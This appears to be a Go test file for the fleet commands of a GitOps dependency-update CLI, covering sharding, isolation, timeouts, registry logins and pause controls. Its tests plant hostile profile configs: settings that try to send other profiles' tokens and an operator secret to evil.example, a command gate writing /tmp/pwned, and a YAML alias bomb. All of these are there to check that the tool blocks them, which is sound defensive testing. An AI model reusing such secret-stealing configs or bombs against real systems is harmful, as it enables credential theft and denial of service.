@@ -1,0 +1,448 @@
+package cli_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/santhosh-tekuri/jsonschema/v6"
+
+	"github.com/pawl-cd/pawl/internal/cli"
+	"github.com/pawl-cd/pawl/internal/fake"
+	"github.com/pawl-cd/pawl/internal/fake/github"
+	"github.com/pawl-cd/pawl/internal/fleet"
+)
+
+// squadron is a fleet at one GitHub and one registry, and an operator with its environment.
+type squadron struct {
+	*testing.T
+	registry *fake.Registry
+	github   *github.Server
+	others   http.RoundTripper
+	env      map[string]string
+	file     string
+	// seen are the requests by the profile's token, or without one.
+	mu    sync.Mutex
+	seen  []string
+	repos []*github.Repo
+	// before sees each request, and may hold it up.
+	before func(r *http.Request) error
+}
+
+// newSquadron makes n profiles org/p0, org/p1 and so on, each with the token token-I-c4nary in TOKEN_I.
+func newSquadron(t *testing.T, n int, config string) *squadron {
+	t.Helper()
+	s := &squadron{T: t, env: map[string]string{"OPERATOR_SECRET": "operator-c4nary"}, file: filepath.Join(t.TempDir(), "fleet.yaml")}
+	s.registry = fake.NewRegistry(fake.RegistryOptions{Tags: map[string][]string{"org/a": {"v1.0.0"}, "org/b": {"v1.0.0"}, "org/c": {"v1.0.0"}}})
+	s.others = fake.Network{"index.docker.io": s.registry}
+	who := map[string]github.Identity{}
+	for i := range n {
+		who[fmt.Sprintf("token-%d-c4nary", i)] = github.Identity{Login: fmt.Sprintf("bot-%d", i)}
+	}
+	s.github = github.New(github.Options{Now: time.Now, Identities: who})
+	text := "version: 1\nprofiles:\n"
+	for i := range n {
+		name := fmt.Sprintf("org/p%d", i)
+		repo := s.github.Create(name, github.Settings{})
+		s.repos = append(s.repos, repo)
+		files := map[string][]byte{}
+		for file, content := range profileFiles(config) {
+			files[file] = []byte(strings.ReplaceAll(content, "acme/profile", name))
+		}
+		if _, err := repo.Push("main", "alice", files, "the profile"); err != nil {
+			t.Fatal(err)
+		}
+		s.env[fmt.Sprintf("TOKEN_%d", i)] = fmt.Sprintf("token-%d-c4nary", i)
+		text += fmt.Sprintf("  - {repository: %s, token: TOKEN_%d, env: [OWN_%d]}\n", name, i, i)
+	}
+	s.write(text)
+	return s
+}
+
+func (s *squadron) write(text string) {
+	s.Helper()
+	if err := os.WriteFile(s.file, []byte(text), 0o600); err != nil {
+		s.Fatal(err)
+	}
+}
+
+// push changes the files of a profile.
+func (s *squadron) push(i int, files map[string]string) {
+	s.Helper()
+	all := map[string][]byte{}
+	for name, text := range files {
+		all[name] = []byte(text)
+	}
+	if _, err := s.repo(i).Push("main", "alice", all, "a change"); err != nil {
+		s.Fatal(err)
+	}
+}
+
+func (s *squadron) repo(i int) *github.Repo { return s.repos[i] }
+
+func (s *squadron) value(i int, app string) string {
+	s.Helper()
+	data, _ := s.repo(i).File("main", "values.yaml")
+	_, rest, _ := strings.Cut(string(data), "  "+app+": ")
+	value, _, _ := strings.Cut(rest, " ")
+	return value
+}
+
+// RoundTrip notes who asks whom, and passes on.
+func (s *squadron) RoundTrip(r *http.Request) (*http.Response, error) {
+	body, header := "", fmt.Sprint(r.Header)
+	if r.Body != nil {
+		data, err := io.ReadAll(r.Body)
+		if err != nil {
+			return nil, err
+		}
+		body = string(data)
+		r = r.Clone(r.Context())
+		r.Body = io.NopCloser(bytes.NewReader(data))
+	}
+	if name, password, ok := r.BasicAuth(); ok {
+		header += name + ":" + password
+	}
+	s.mu.Lock()
+	s.seen = append(s.seen, r.Method+" "+r.URL.String()+" "+header+" "+body)
+	before := s.before
+	s.mu.Unlock()
+	if before != nil {
+		if err := before(r); err != nil {
+			return nil, err
+		}
+	}
+	if toGitHub(r) {
+		return s.github.RoundTripper().RoundTrip(r)
+	}
+	return s.others.RoundTrip(r)
+}
+
+func (s *squadron) system(out, errs *bytes.Buffer) cli.System {
+	return cli.System{Out: out, Err: errs, Now: time.Now, Transport: s,
+		Sleep: func(ctx context.Context, _ time.Duration) error { return ctx.Err() },
+		Env:   func(name string) (string, bool) { value, ok := s.env[name]; return value, ok },
+		Environ: func() (all []string) {
+			for name, value := range s.env {
+				all = append(all, name+"="+value)
+			}
+			return all
+		}}
+}
+
+func (s *squadron) pawl(args ...string) (code int, out, errs string) {
+	s.Helper()
+	var o, e bytes.Buffer
+	code = cli.Run(s.Context(), append(args, "--file", s.file), s.system(&o, &e))
+	if text := o.String() + e.String(); strings.Contains(text, "c4nary") {
+		s.Errorf("%v: a secret was printed: %s", args, text)
+	}
+	return code, o.String(), e.String()
+}
+
+// run runs the fleet and returns its report by profile.
+func (s *squadron) run(want int, args ...string) (fleet.Report, map[string]fleet.Result) {
+	s.Helper()
+	code, out, errs := s.pawl(append([]string{"fleet", "run", "--output", "json"}, args...)...)
+	var report fleet.Report
+	if err := json.Unmarshal([]byte(out), &report); err != nil || code != want {
+		s.Fatalf("exit code %d, want %d: %v\n%s%s", code, want, err, out, errs)
+	}
+	validFleet(s.T, out)
+	by := map[string]fleet.Result{}
+	for _, one := range report.Profiles {
+		by[one.Profile] = one
+	}
+	return report, by
+}
+
+func validFleet(t *testing.T, text string) {
+	t.Helper()
+	schema, err := jsonschema.UnmarshalJSON(bytes.NewReader(fleet.ReportSchemaJSON()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := jsonschema.NewCompiler()
+	c.AssertFormat()
+	if err := c.AddResource("fleet.json", schema); err != nil {
+		t.Fatal(err)
+	}
+	compiled, err := c.Compile("fleet.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	report, err := jsonschema.UnmarshalJSON(strings.NewReader(text))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := compiled.Validate(report); err != nil {
+		t.Errorf("%v\n%s", err, text)
+	}
+}
+
+// TestFleetRun publishes one version that all profiles follow: each merges it once, and the sources are listed once for all.
+func TestFleetRun(t *testing.T) {
+	t.Parallel()
+	const n = 8
+	s := newSquadron(t, n, noChecks)
+	report, _ := s.run(0)
+	if fmt.Sprint(report.Tally()) != "[{unchanged 8}]" || report.Listings != 3 || report.Uses != 3*n {
+		t.Errorf("nothing new: %+v", report)
+	}
+	if s.github.Writes() != 0 {
+		t.Errorf("nothing new wrote %d times", s.github.Writes())
+	}
+	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
+	report, by := s.run(0, "--dry-run")
+	if fmt.Sprint(report.Tally()) != "[{planned 8}]" || s.github.Writes() != 0 || by["org/p3"].Summary != "a v1.0.0 -> v1.1.0" {
+		t.Errorf("a dry run: %+v, %d writes", report, s.github.Writes())
+	}
+	report, by = s.run(0)
+	if fmt.Sprint(report.Tally()) != "[{merged 8}]" || report.Listings != 3 {
+		t.Errorf("a new version: %+v", report)
+	}
+	for i := range n {
+		if s.value(i, "a") != "v1.1.0" || len(s.repo(i).Log("main")) != 2 || by[fmt.Sprintf("org/p%d", i)].Pull == "" {
+			t.Errorf("org/p%d: a is %s after %d commits, %+v", i, s.value(i, "a"), len(s.repo(i).Log("main")), by)
+		}
+	}
+	writes := s.github.Writes()
+	if report, _ := s.run(0); fmt.Sprint(report.Tally()) != "[{unchanged 8}]" || s.github.Writes() != writes {
+		t.Errorf("once more: %+v, wrote %d times", report, s.github.Writes()-writes)
+	}
+	code, out, _ := s.pawl("fleet", "run")
+	if code != 0 || !strings.Contains(out, "org/p7   unchanged\n") || !strings.HasSuffix(out, "\n8 profiles: 8 unchanged; 3 sources listed for 24 uses\n") {
+		t.Errorf("the table: exit code %d\n%s", code, out)
+	}
+}
+
+// TestFleetShards has three shards take every profile once.
+func TestFleetShards(t *testing.T) {
+	t.Parallel()
+	s := newSquadron(t, 9, noChecks)
+	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
+	taken := map[string]int{}
+	for i := range 3 {
+		report, by := s.run(0, "--shard", fmt.Sprintf("%d/3", i))
+		if report.Shard != fmt.Sprintf("%d/3", i) {
+			t.Errorf("the shard is %q", report.Shard)
+		}
+		for name := range by {
+			taken[name]++
+		}
+	}
+	for i := range 9 {
+		if taken[fmt.Sprintf("org/p%d", i)] != 1 || s.value(i, "a") != "v1.1.0" {
+			t.Errorf("org/p%d was taken %d times, a is %s", i, taken[fmt.Sprintf("org/p%d", i)], s.value(i, "a"))
+		}
+	}
+	for _, bad := range []string{"3/3", "-1/3", "1", "a/b", "0/0", "0/3/1"} {
+		if code, _, errs := s.pawl("fleet", "run", "--shard", bad); code != 4 || !strings.Contains(errs, "--shard") {
+			t.Errorf("%s: exit code %d: %s", bad, code, errs)
+		}
+	}
+}
+
+// TestFleetIsolation has one profile fail in each way that there is: the others are as if they were alone.
+func TestFleetIsolation(t *testing.T) {
+	t.Parallel()
+	s := newSquadron(t, 10, noChecks)
+	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
+	config := func(more string) map[string]string { return map[string]string{".pawl.yaml": noChecks + more} }
+	s.push(1, config("gates:\n  scan: {run: [touch, /tmp/pwned]}\n"))
+	s.push(2, config("events: {sinks: [{type: file, path: events.jsonl}]}\n"))
+	s.push(3, config("forge: {kind: gitea, url: 'https://git.example'}\n"))
+	s.push(4, config("unknown: key\n"))
+	s.push(5, map[string]string{"manifests/b.yaml": "sources: {image: {kind: dockerimage, spec: {image: org/none, versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.b}}}\n"})
+	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
+	for c := 'b'; c < 'k'; c++ {
+		bomb += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
+	}
+	s.push(6, map[string]string{"values.yaml": bomb, "manifests/b.yaml": bomb})
+	delete(s.env, "TOKEN_7")
+	s.env["TOKEN_8"] = "nobody-c4nary"
+	_, by := s.run(3)
+	for _, c := range []struct {
+		profile int
+		state   fleet.State
+		says    string
+	}{
+		{0, fleet.Merged, ""}, {1, fleet.Refused, "a profile of a fleet has no programs"}, {2, fleet.Refused, "writes no files"},
+		{3, fleet.Refused, "lives on gitea"}, {4, fleet.Refused, ""}, {5, fleet.Partial, "org/none"}, {6, fleet.Partial, ""},
+		{7, fleet.Refused, "the variable TOKEN_7 is not set"}, {8, fleet.Failed, ""}, {9, fleet.Merged, ""},
+	} {
+		one := by[fmt.Sprintf("org/p%d", c.profile)]
+		if one.State != c.state || !strings.Contains(one.Detail, c.says) || c.state.Bad() && one.Detail == "" {
+			t.Errorf("org/p%d: %+v, want %s", c.profile, one, c.state)
+		}
+	}
+	for i := range 10 {
+		want := map[bool]string{true: "v1.1.0", false: "v1.0.0"}[i == 0 || i == 5 || i == 9]
+		if got := s.value(i, "a"); i != 6 && got != want {
+			t.Errorf("org/p%d: a is %s, want %s", i, got, want)
+		}
+	}
+	if _, err := os.Stat("/tmp/pwned"); err == nil {
+		t.Error("a program was started")
+	}
+}
+
+// TestFleetSecrets shows that no token of one profile is sent for another one, whatever that one's configuration names.
+func TestFleetSecrets(t *testing.T) {
+	t.Parallel()
+	s := newSquadron(t, 3, noChecks)
+	for i := range 3 {
+		s.env[fmt.Sprintf("OWN_%d", i)] = fmt.Sprintf("own-%d-c4nary", i)
+	}
+	stolen := noChecks + "env: [OWN_0, TOKEN_0, OPERATOR_SECRET]\nsecrets: {TOKEN_0: evil.example, OWN_0: evil.example, OPERATOR_SECRET: evil.example}\n"
+	s.push(1, map[string]string{".pawl.yaml": stolen + "mirrors: {docker.io: 'https://evil.example/v2'}\nevents: {source: 'https://x.example', sinks: [{type: http, url: 'https://evil.example', token: OWN_0}]}\n",
+		"manifests/b.yaml": "sources: {image: {kind: githubrelease, spec: {owner: org, repository: b, token: '{{ requiredEnv \"TOKEN_0\" }}', url: 'https://evil.example'}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.b}}}\n",
+		"manifests/c.yaml": "sources: {image: {kind: dockerimage, spec: {image: 'evil.example/{{ requiredEnv \"OPERATOR_SECRET\" }}', versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.c}}}\n"})
+	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
+	_, by := s.run(3)
+	if by["org/p0"].State != fleet.Merged || by["org/p2"].State != fleet.Merged || !by["org/p1"].State.Bad() {
+		t.Errorf("%+v", by)
+	}
+	var sent [3]int
+	for _, request := range s.seen {
+		for i := range 3 {
+			mine := strings.Contains(request, fmt.Sprintf("/org/p%d", i)) || strings.Contains(request, fmt.Sprintf(`"name":"p%d"`, i)) ||
+				strings.Contains(request, fmt.Sprintf("org/p%d", i))
+			if strings.Contains(request, fmt.Sprintf("token-%d-c4nary", i)) {
+				sent[i]++
+				if !mine || !strings.HasPrefix(strings.SplitN(request, " ", 3)[1], "https://") {
+					t.Errorf("the token of org/p%d went along with %s", i, request)
+				}
+			}
+		}
+		if strings.Contains(request, "evil.example") && strings.Contains(request, "c4nary") || strings.Contains(request, "operator-c4nary") || strings.Contains(request, "own-") {
+			t.Errorf("a secret went along with %s", request)
+		}
+	}
+	if sent[0] < 10 || sent[1] < 2 || sent[2] < 10 {
+		t.Errorf("the tokens were sent %v times: this test sees nothing", sent)
+	}
+}
+
+// TestFleetLate has a forge that does not answer cost one profile its own time.
+func TestFleetLate(t *testing.T) {
+	t.Parallel()
+	s := newSquadron(t, 4, noChecks)
+	text, err := os.ReadFile(s.file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.write(string(text) + "limits: {profile: 4s, parallel: 2}\n")
+	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
+	s.before = func(r *http.Request) error {
+		if strings.Contains(r.URL.Path, "/org/p1") {
+			<-r.Context().Done()
+			return r.Context().Err()
+		}
+		return nil
+	}
+	_, by := s.run(3)
+	for i, want := range []fleet.State{fleet.Merged, fleet.Late, fleet.Merged, fleet.Merged} {
+		if one := by[fmt.Sprintf("org/p%d", i)]; one.State != want {
+			t.Errorf("org/p%d: %+v, want %s", i, one, want)
+		}
+	}
+}
+
+// TestFleetListings shows a private repository's versions to those profiles that have a login for it, once, and to nobody else:
+// not to those without or with another one, and not by what the operator's own docker knows.
+func TestFleetListings(t *testing.T) { // it sets variables of the process, so it does not run beside others
+	s := newSquadron(t, 4, noChecks)
+	private := fake.NewRegistry(fake.RegistryOptions{Auth: fake.BasicAuth, User: "me", Password: "hunter2-c4nary", Tags: map[string][]string{"team/b": {"v1.0.0", "v1.2.0"}}})
+	s.others = fake.Network{"index.docker.io": s.registry, "private.example": private}
+	login := func(password string) string {
+		dir := t.TempDir()
+		auth := base64.StdEncoding.EncodeToString([]byte("me:" + password))
+		if err := os.WriteFile(filepath.Join(dir, "config.json"), []byte(`{"auths": {"private.example": {"auth": "`+auth+`"}}}`), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		return dir
+	}
+	const right = "hunter2-c4nary"
+	t.Setenv("DOCKER_CONFIG", login(right))
+	t.Setenv("DOCKER_AUTH_CONFIG", `{"auths": {"private.example": {"auth": "`+base64.StdEncoding.EncodeToString([]byte("me:"+right))+`"}}}`)
+	s.write(fmt.Sprintf(`version: 1
+profiles:
+  - {repository: org/p0, token: TOKEN_0, docker: %q}
+  - {repository: org/p1, token: TOKEN_1, docker: %q}
+  - {repository: org/p2, token: TOKEN_2}
+  - {repository: org/p3, token: TOKEN_3, docker: %q}
+`, login(right), login(right), login("wrong-c4nary")))
+	for i := range 4 {
+		s.push(i, map[string]string{"manifests/b.yaml": "sources: {image: {kind: dockerimage, spec: {image: private.example/team/b, versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.b}}}\n"})
+	}
+	report, by := s.run(3)
+	for i, want := range []string{"v1.2.0", "v1.2.0", "v1.0.0", "v1.0.0"} {
+		if got := s.value(i, "b"); got != want {
+			t.Errorf("org/p%d: b is %s, want %s: %+v", i, got, want, by[fmt.Sprintf("org/p%d", i)])
+		}
+	}
+	if report.Listings != 2+3 { // two public ones for all, and the private one with a login, without, and with the other
+		t.Errorf("%d listings", report.Listings)
+	}
+}
+
+// TestFleetBrakes pulls and lifts brakes in all profiles with one command, and tells of those that it did not reach.
+func TestFleetBrakes(t *testing.T) {
+	t.Parallel()
+	s := newSquadron(t, 3, noChecks)
+	over := func(want int, args ...string) string {
+		t.Helper()
+		var out, errs bytes.Buffer
+		code := cli.Run(t.Context(), append(args, "--fleet", s.file), s.system(&out, &errs))
+		if code != want || strings.Contains(out.String()+errs.String(), "c4nary") {
+			t.Fatalf("%v: exit code %d, want %d: %s%s", args, code, want, &out, &errs)
+		}
+		return out.String() + errs.String()
+	}
+	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
+	if out := over(0, "pause", "--reason", "incident 42", "--dry-run"); s.github.Writes() != 0 || strings.Count(out, "dry run") != 3 {
+		t.Errorf("a dry run: %s", out)
+	}
+	if out := over(0, "pause", "--reason", "incident 42"); !strings.Contains(out, "org/p1:\n  pulled pause") || !strings.HasSuffix(out, "3 profiles: 3 done, 0 not\n") {
+		t.Errorf("pause: %s", out)
+	}
+	if report, _ := s.run(0); fmt.Sprint(report.Tally()) != "[{paused 3}]" || s.value(1, "a") != "v1.0.0" {
+		t.Errorf("paused: %+v", report)
+	}
+	if code, out, errs := s.pawl("fleet", "status"); code != 0 || strings.Count(out, "  paused: incident 42 (bot-") != 3 {
+		t.Errorf("status: exit code %d: %s%s", code, out, errs)
+	}
+	over(0, "resume")
+	if out := over(0, "quarantine", "org/a:v1.1.0", "--reason", "broken", "--no-run"); strings.Count(out, "tag=v1.1.0") != 3 {
+		t.Errorf("quarantine: %s", out)
+	}
+	if report, _ := s.run(0); fmt.Sprint(report.Tally()) != "[{unchanged 3}]" {
+		t.Errorf("quarantined: %+v", report)
+	}
+	s.env["TOKEN_1"] = ""
+	if out := over(3, "unquarantine", "org/a:v1.1.0", "--no-run"); !strings.Contains(out, "org/p1:\n  error: "+s.file+":4:18: the variable TOKEN_1 is not set\n  hint: ") || !strings.Contains(out, "3 profiles: 2 done, 1 not\n") {
+		t.Errorf("one without a token: %s", out)
+	}
+	if out := over(4, "hold", "a"); !strings.Contains(out, "say why") {
+		t.Errorf("without a reason: %s", out)
+	}
+	if out := over(4, "resume", "--repository", "org/p0"); !strings.Contains(out, "the profiles are those of --fleet") {
+		t.Errorf("two places: %s", out)
+	}
+	code, out, errs := s.pawl("fleet", "status", "--output", "json")
+	var all fleet.Status
+	if err := json.Unmarshal([]byte(out), &all); err != nil || code != 3 || len(all.Profiles) != 3 || all.Profiles[0].Profile != "org/p1" || all.Profiles[1].Status == nil {
+		t.Errorf("status: exit code %d, %v: %s%s", code, err, out, errs)
+	}
+}
